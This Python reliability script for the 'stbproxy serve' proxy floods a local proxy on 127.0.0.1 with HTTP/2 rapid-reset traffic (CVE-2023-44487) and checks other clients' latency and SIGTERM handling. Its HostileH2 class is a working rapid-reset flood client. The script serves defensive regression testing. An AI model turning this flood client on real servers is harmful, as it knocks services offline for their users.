#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against `stbproxy serve`: what it does to another client.

On 127.0.0.1 only, bounded in time, per lane (the fast lane, serve's default, and
--no-fast-lane, mitmproxy's own layers), each with a proxy of its own:

1. baseline: another client (HTTP/1.1, one keep-alive connection) asks, round after round, a
   cache hit and a miss (a new URL of a plain-HTTP upstream each time); its latencies;
2. flood: a hostile client (``HostileH2``, in a process of its own) sends request-then-reset
   pairs over HTTP/2 inside CONNECT tunnels with TLS, each to a new URL of a slow HTTPS
   upstream (every stream would be an upstream call), in batches (HEADERS, then their
   RST_STREAMs), as fast as the proxy takes them, and opens a new connection whenever the
   proxy closes one; meanwhile the other client asks again, as in 1;
3. SIGTERM while the flood goes on: the time until the proxy has exited.

Reported per lane: the other client's latency (p50, p99, max) for hits and misses, quiet and
during the flood; the pairs sent, the connections they took and how many of those the proxy
ended with GOAWAY ENHANCE_YOUR_CALM; how many flood streams reached the upstream; the time
from SIGTERM to exit.

The hostile side (the flood and its upstream) stands for other machines: with 2 cores or more
it runs on the last core and the proxy, the other client and its upstream on the others
(``keep_to_cores``), so that the figures measure the proxy, not the scheduler.

Baseline (measured in the same run): the other client's quiet latency. Checks: during the
flood its p99 stays within --max-added ms of the quiet p99 (hits and misses) and no request
of it fails; the proxy waits for the upstream's answer to no reset stream (--max-waited); the
proxy exits within --grace seconds of SIGTERM. Exit status 1 when a check fails, 2 when the
run fails. Before the fix (issue 38, item 2) a flood delayed the other client by seconds to
minutes and SIGTERM went unanswered; run against an older tree with PYTHONPATH=that/tree.

Usage: python scripts/reliability/h2_flood.py [--quick] [--pairs N] [--seconds S] [--lane fast-lane|no-fast-lane|both]
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import re
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # run as a file: scripts.* from the repository root

from scripts.common import HOST, child_env, open_tunnel, percentile, run_in_workdir  # noqa: E402

SCRIPT = Path(__file__).resolve()
LANES = {"fast-lane": (), "no-fast-lane": ("--no-fast-lane",)}
SLOW = 0.3  # seconds the upstream takes for each flood URL: a flood stream that reaches it holds a connection
BATCH = 50  # streams opened before their resets are sent (below HTTP/2's advertised 100 at once)
ENHANCE_YOUR_CALM = 0xB
READY = re.compile(r"listening on (\d+) (\d+)")


# -- where each process runs ------------------------------------------------------------------------


def keep_to_cores(hostile: bool, pid: int = 0) -> str:
    """The flood and its upstream stand for other machines: on a machine with 2 cores or more
    they get the last core and the proxy, the other client and its upstream the rest (else the
    figures would measure the scheduler); on one core the hostile side is only niced."""
    cores = sorted(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else []
    if len(cores) < 2:
        if hostile:
            os.nice(10)
        return "one core: the hostile side niced"
    os.sched_setaffinity(pid, {cores[-1]} if hostile else set(cores[:-1]))
    return f"the hostile side on core {cores[-1]}, the proxy and the other client on {cores[:-1]}"


# -- the hostile client --------------------------------------------------------------------------


@dataclass
class FloodStats:
    pairs: int = 0  # request-then-reset pairs sent
    connections: int = 0
    goaways: Counter = field(default_factory=Counter)  # error code -> connections ended with it
    refused: int = 0  # streams the proxy refused (RST_STREAM from its side)
    errors: Counter = field(default_factory=Counter)  # connections that ended otherwise, by what happened
    seconds: float = 0.0

    def as_dict(self) -> dict:
        return {"pairs": self.pairs, "connections": self.connections, "goaways": dict(self.goaways),
                "refused": self.refused, "errors": dict(self.errors), "seconds": self.seconds}


class HostileH2:
    """Request-then-reset pairs over HTTP/2 through a proxy's CONNECT tunnel: each stream asks
    ``authority`` for a new /flood URL and is reset (CANCEL) right after; a new connection
    follows whenever the proxy ends one."""

    def __init__(self, proxy_port: int, ca_file: str, authority: str, batch: int = BATCH) -> None:
        self.proxy_port = proxy_port
        self.authority = authority
        self.batch = batch
        self.context = ssl.create_default_context(cafile=ca_file)
        self.context.set_alpn_protocols(["h2"])
        self.stats = FloodStats()

    def run(self, pairs: int, seconds: float, stop: threading.Event | None = None) -> FloodStats:
        started = time.monotonic()
        deadline = started + seconds
        while self.stats.pairs < pairs and time.monotonic() < deadline and not (stop and stop.is_set()):
            self.stats.connections += 1
            try:
                self._connection(pairs, deadline, stop)
            except (OSError, ssl.SSLError, ConnectionError) as exc:
                self.stats.errors[type(exc).__name__] += 1
                time.sleep(0.01)
        self.stats.seconds = time.monotonic() - started
        return self.stats

    def _connection(self, pairs: int, deadline: float, stop: threading.Event | None) -> None:
        import h2.config
        import h2.connection
        import h2.errors

        sock = socket.create_connection((HOST, self.proxy_port), timeout=10)
        with contextlib.closing(sock):
            open_tunnel(sock, self.authority)
            tls = self.context.wrap_socket(sock, server_hostname=self.authority.rsplit(":", 1)[0])
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            tls.sendall(conn.data_to_send())
            tls.setblocking(False)
            while self.stats.pairs < pairs and time.monotonic() < deadline and not (stop and stop.is_set()):
                streams = []
                for _ in range(min(self.batch, pairs - self.stats.pairs)):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, [(":method", "GET"), (":scheme", "https"),
                                               (":authority", self.authority),
                                               (":path", f"/flood?n={self.stats.connections}.{stream}")],
                                      end_stream=True)
                    streams.append(stream)
                try:
                    self._send(tls, conn.data_to_send())
                    for stream in streams:
                        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                    self._send(tls, conn.data_to_send())
                except (OSError, ssl.SSLError):  # closed by the proxy: its GOAWAY may still be there to read
                    tls.settimeout(1.0)
                    if not self._ended(tls, conn):
                        raise
                    return
                self.stats.pairs += len(streams)
                if self._ended(tls, conn):
                    return

    def _send(self, tls: ssl.SSLSocket, data: bytes) -> None:
        view = memoryview(data)
        while view:
            try:
                sent = tls.send(view)
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                time.sleep(0.0005)
                continue
            view = view[sent:]

    def _ended(self, tls: ssl.SSLSocket, conn) -> bool:
        """Read what the proxy sent; True once it has ended the connection."""
        import h2.events
        import h2.exceptions

        while True:
            try:
                data = tls.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
                return False
            except (OSError, ssl.SSLError) as exc:
                self.stats.errors[type(exc).__name__] += 1
                return True
            if not data:
                self.stats.errors["closed without GOAWAY"] += 1
                return True
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError as exc:
                self.stats.errors[type(exc).__name__] += 1
                return True
            for event in events:
                if isinstance(event, h2.events.StreamReset):
                    self.stats.refused += 1
                elif isinstance(event, h2.events.ConnectionTerminated):
                    self.stats.goaways[event.error_code] += 1
                    return True


# -- the upstream ------------------------------------------------------------------------------


class Upstream:
    """Plain HTTP and HTTPS on 127.0.0.1: /flood waits SLOW seconds (or ``wait=S``), /stats counts
    what came; any other path is answered at once."""

    def __init__(self) -> None:
        self.flood = 0  # flood requests that reached it
        self.waited = 0  # ... and whose answer the proxy still waited for after SLOW seconds
        self.other = 0

    async def serve(self, folder: Path, hostile: bool) -> None:
        from scripts.reliability.fuzz_upstream import make_tls

        keep_to_cores(hostile)
        ca_file, context = make_tls(folder)
        plain = await asyncio.start_server(self._connection, HOST, 0, backlog=1024)
        tls = await asyncio.start_server(self._connection, HOST, 0, ssl=context, backlog=1024)
        print(f"listening on {plain.sockets[0].getsockname()[1]} {tls.sockets[0].getsockname()[1]} {ca_file}",
              flush=True)
        stop = asyncio.Event()
        for sig in (signal.SIGTERM, signal.SIGINT):
            asyncio.get_running_loop().add_signal_handler(sig, stop.set)
        async with plain, tls:
            await stop.wait()

    async def _connection(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                target = head.split(b" ", 2)[1]
                path = re.sub(rb"^https?://[^/]*", b"", target).split(b"?")[0]
                if path == b"/flood":
                    self.flood += 1
                    wait = re.search(rb"[?&]wait=([\d.]+)", target)
                    await asyncio.sleep(float(wait.group(1)) if wait else SLOW)
                    if writer.is_closing() or reader.at_eof() or reader.exception() is not None:
                        return  # the proxy gave up the call
                    self.waited += 1
                elif path != b"/stats":
                    self.other += 1
                body = json.dumps({"flood": self.flood, "waited": self.waited, "other": self.other}
                                  if path == b"/stats" else {"path": target.decode("latin-1")}).encode()
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
                             % (len(body), body))
                await writer.drain()
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError, ssl.SSLError, IndexError,
                asyncio.CancelledError):
            pass
        finally:
            writer.close()


def upstream_stats(port: int) -> dict:
    with socket.create_connection((HOST, port), timeout=10) as sock:
        sock.sendall(b"GET /stats HTTP/1.1\r\nHost: x\r\n\r\n")
        answer = b""
        while not answer.endswith(b"}"):
            chunk = sock.recv(4096)
            if not chunk:
                break
            answer += chunk
    return json.loads(answer.partition(b"\r\n\r\n")[2])


# -- the other client ------------------------------------------------------------------------------


@dataclass
class Latencies:
    hits: list[float] = field(default_factory=list)
    misses: list[float] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)

    def summary(self, kind: str) -> str:
        values = sorted(getattr(self, kind))
        if not values:
            return "none"
        return (f"p50 {percentile(values, 50) * 1e3:.1f}, p99 {percentile(values, 99) * 1e3:.1f}, "
                f"max {values[-1] * 1e3:.1f} ms ({len(values)})")

    def p99(self, kind: str) -> float:
        return percentile(sorted(getattr(self, kind)), 99)


class OtherClient:
    """One keep-alive HTTP/1.1 connection through the proxy: a hit, then a miss, each round."""

    def __init__(self, proxy_port: int, upstream_port: int, timeout: float) -> None:
        self.proxy_port = proxy_port
        self.authority = f"{HOST}:{upstream_port}"
        self.timeout = timeout
        self.sock: socket.socket | None = None
        self.misses = 0

    def measure(self, seconds: float, pause: float = 0.01) -> Latencies:
        found = Latencies()
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            for kind, path in (("hits", "/hit?n=0"), ("misses", f"/miss?n={self._next_miss()}")):
                started = time.perf_counter()
                try:
                    status = self.ask(path)
                except OSError as exc:
                    found.failures.append(f"{path}: {type(exc).__name__}: {exc}")
                    self.close()
                    continue
                getattr(found, kind).append(time.perf_counter() - started)
                if status != 200:
                    found.failures.append(f"{path}: status {status}")
            time.sleep(pause)
        return found

    def _next_miss(self) -> int:
        self.misses += 1
        return self.misses

    def ask(self, path: str) -> int:
        if self.sock is None:
            self.sock = socket.create_connection((HOST, self.proxy_port), timeout=self.timeout)
        self.sock.sendall(f"GET http://{self.authority}{path} HTTP/1.1\r\nHost: {self.authority}\r\n\r\n".encode())
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed by the proxy")
            answer += chunk
        head, _, body = answer.partition(b"\r\n\r\n")
        length = int(re.search(rb"(?i)\r\ncontent-length: *(\d+)", head).group(1))
        while len(body) < length:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed by the proxy mid-answer")
            body += chunk
        return int(head[9:12])

    def close(self) -> None:
        if self.sock is not None:
            self.sock.close()
            self.sock = None


# -- the run ------------------------------------------------------------------------------------------


@dataclass
class LaneResult:
    lane: str
    quiet: Latencies
    flooded: Latencies
    flood: dict
    reached: int  # flood requests that reached the upstream
    waited: int  # ... and whose answer the proxy waited for (not cancelled)
    sigterm: float  # seconds from SIGTERM to exit (inf: it did not exit)
    exit_code: int | None
    problems: list[str]


class Run:
    def __init__(self, args, workdir: Path, stack: contextlib.ExitStack) -> None:
        self.args = args
        self.workdir = workdir
        self.stack = stack

    def upstream(self, role: str) -> tuple[int, int, str]:
        """An upstream process: "hostile" (the flood's, niced) or "other" (the other client's)."""
        process = subprocess.Popen([sys.executable, str(SCRIPT), "_upstream", role, str(self.workdir / role)],
                                   stdout=subprocess.PIPE, text=True, env=child_env())
        self.stack.callback(lambda: (process.terminate(), process.wait(10)))
        line = process.stdout.readline()
        match = READY.search(line)
        if not match:
            raise RuntimeError(f"the upstream did not start: {line!r}")
        return int(match.group(1)), int(match.group(2)), line.split()[-1]

    def lane(self, lane: str, plain: int, tls: int, ca_file: str, stats_port: int) -> LaneResult:
        from stbproxy.serve_process import ServeProcess

        a = self.args
        proxy = ServeProcess(self.workdir / lane / "store", "--upstream-ca", ca_file, "--upstream-timeout", "30",
                             *LANES[lane], env=child_env())
        self.stack.callback(proxy.stop)
        proxy.start()
        keep_to_cores(False, proxy.process.pid)
        client = OtherClient(proxy.port, plain, timeout=a.request_timeout)
        client.ask("/hit?n=0")  # stored: every later ask is a hit
        quiet = client.measure(a.quiet_seconds)
        before = upstream_stats(stats_port)
        flood = subprocess.Popen([sys.executable, str(SCRIPT), "_flood", str(proxy.port), str(proxy.ca_file),
                                  f"127.0.0.1:{tls}", str(a.pairs), str(a.seconds + a.grace + 30)],
                                 stdout=subprocess.PIPE, text=True, env=child_env())
        self.stack.callback(lambda: flood.poll() is None and flood.kill())
        time.sleep(0.3)  # the flood is under way
        flooded = client.measure(a.seconds)
        client.close()
        stopped = time.monotonic()
        proxy.process.send_signal(signal.SIGTERM)
        try:
            code = proxy.process.wait(a.grace + 60)
            sigterm = time.monotonic() - stopped
        except subprocess.TimeoutExpired:
            code, sigterm = None, float("inf")
        flood.send_signal(signal.SIGTERM)
        try:
            out, _ = flood.communicate(timeout=30)
            stats = json.loads(out.strip().splitlines()[-1])
        except (subprocess.TimeoutExpired, ValueError, IndexError):
            flood.kill()
            stats = {"pairs": 0, "connections": 0, "goaways": {}, "refused": 0, "errors": {"no report": 1}}
        time.sleep(SLOW + 0.2)  # flood requests already sent upstream arrive
        after = upstream_stats(stats_port)
        reached, waited = after["flood"] - before["flood"], after["waited"] - before["waited"]
        proxy.stop()
        problems = self.checks(quiet, flooded, stats, waited, sigterm, code, "".join(proxy.output))
        return LaneResult(lane, quiet, flooded, stats, reached, waited, sigterm, code, problems)

    def checks(self, quiet: Latencies, flooded: Latencies, stats: dict, waited: int, sigterm: float,
               code: int | None, output: str) -> list[str]:
        a = self.args
        problems = [f"the other client: {failure}" for failure in quiet.failures + flooded.failures][:5]
        for kind in ("hits", "misses"):
            added = (flooded.p99(kind) - quiet.p99(kind)) * 1e3
            if not getattr(flooded, kind) or added > a.max_added:
                problems.append(f"{kind}: p99 {added:+.1f} ms during the flood (at most +{a.max_added:g} ms)")
        if stats["pairs"] < min(a.pairs, 1000):
            problems.append(f"the flood sent only {stats['pairs']} pairs")
        if waited > a.max_waited:
            problems.append(f"the proxy waited for the upstream's answer to {waited} reset streams "
                            f"(at most {a.max_waited})")
        if sigterm > a.grace:
            problems.append(f"{sigterm:.1f} s from SIGTERM to exit (at most {a.grace:g} s)")
        if code not in (0, -signal.SIGTERM):
            problems.append(f"exit status {code} after SIGTERM")
        if "Traceback" in output or "mitmproxy has crashed" in output:
            first = output[output.find("Traceback"):][:1500] if "Traceback" in output else ""
            problems.append(f"{output.count('Traceback')} tracebacks in the proxy's output; the first:\n{first}")
        return problems

    def main(self) -> int:
        a = self.args
        where = keep_to_cores(False)
        stats_port, tls, ca_file = self.upstream("hostile")
        plain, _, _ = self.upstream("other")
        lanes = list(LANES) if a.lane == "both" else [a.lane]
        print(f"h2_flood: {a.pairs} request-then-reset pairs (batches of {BATCH}) "
              f"for at most {a.seconds:g} s per lane, "
              f"lanes {', '.join(lanes)}; {os.cpu_count()} cores ({where}), load average {os.getloadavg()[0]:.1f}",
              flush=True)
        results = [self.lane(lane, plain, tls, ca_file, stats_port) for lane in lanes]
        for result in results:
            flood = result.flood
            calm = flood["goaways"].get(str(ENHANCE_YOUR_CALM), flood["goaways"].get(ENHANCE_YOUR_CALM, 0))
            print(f"\nlane {result.lane}")
            print(f"  other client, quiet:        hits {result.quiet.summary('hits')}; "
                  f"misses {result.quiet.summary('misses')}")
            print(f"  other client, during flood: hits {result.flooded.summary('hits')}; "
                  f"misses {result.flooded.summary('misses')}")
            print(f"  flood: {flood['pairs']} pairs over {flood['connections']} connections in "
                  f"{flood.get('seconds', 0):.1f} s; GOAWAY ENHANCE_YOUR_CALM {calm}, other endings "
                  f"{dict(flood['errors']) or 'none'}; streams refused {flood['refused']}")
            print(f"  flood streams that reached the upstream: {result.reached}, of which the proxy waited for the "
                  f"answer: {result.waited}")
            print(f"  SIGTERM to exit: {result.sigterm:.2f} s (exit status {result.exit_code})")
            for problem in result.problems:
                print(f"  problem: {problem}")
        failed = sum(len(r.problems) for r in results)
        print("\nall checks passed" if not failed else f"\n{failed} problems found")
        return 1 if failed else 0


def options(argv: list[str]) -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--quick", action="store_true", help="a small run for smoke tests (seconds)")
    p.add_argument("--pairs", type=int, help="at most this many request-then-reset pairs per lane [10,000,000]")
    p.add_argument("--seconds", type=float, help="how long the other client measures during the flood [20]")
    p.add_argument("--quiet-seconds", type=float, help="how long it measures before [5]")
    p.add_argument("--lane", choices=[*LANES, "both"], default="both")
    p.add_argument("--max-added", type=float, default=100.0, help="ms the other client's p99 may grow [100]")
    p.add_argument("--max-waited", type=int, default=0,
                   help="reset streams whose upstream answer the proxy may still wait for [0]")
    p.add_argument("--grace", type=float, default=15.0, help="seconds from SIGTERM to exit (serve's STOP_GRACE) [15]")
    p.add_argument("--request-timeout", type=float, default=120.0, help="the other client's timeout, seconds [120]")
    a = p.parse_args(argv)
    quick = dict(pairs=1_000_000, seconds=3.0, quiet_seconds=1.5)
    full = dict(pairs=10_000_000, seconds=20.0, quiet_seconds=5.0)
    for key, value in (quick if a.quick else full).items():
        if getattr(a, key) is None:
            setattr(a, key, value)
    if a.pairs < 1 or a.seconds <= 0:
        p.error("--pairs and --seconds must be positive")
    return a


def _flood_role(argv: list[str]) -> None:
    """The hostile client as a process of its own (it must not share the measuring client's GIL)."""
    port, ca_file, authority, pairs, seconds = argv
    keep_to_cores(hostile=True)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    stats = HostileH2(int(port), ca_file, authority).run(int(pairs), float(seconds), stop)
    print(json.dumps(stats.as_dict()), flush=True)


def main(argv: list[str]) -> int:
    if argv[:1] == ["_upstream"]:
        asyncio.run(Upstream().serve(Path(argv[2]), hostile=argv[1] == "hostile"))
        return 0
    if argv[:1] == ["_flood"]:
        _flood_role(argv[1:])
        return 0
    args = options(argv)
    return run_in_workdir("h2_flood", "stb-h2-flood-", lambda workdir, stack: Run(args, workdir, stack).main(),
                          errors=(RuntimeError, OSError, subprocess.SubprocessError))


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
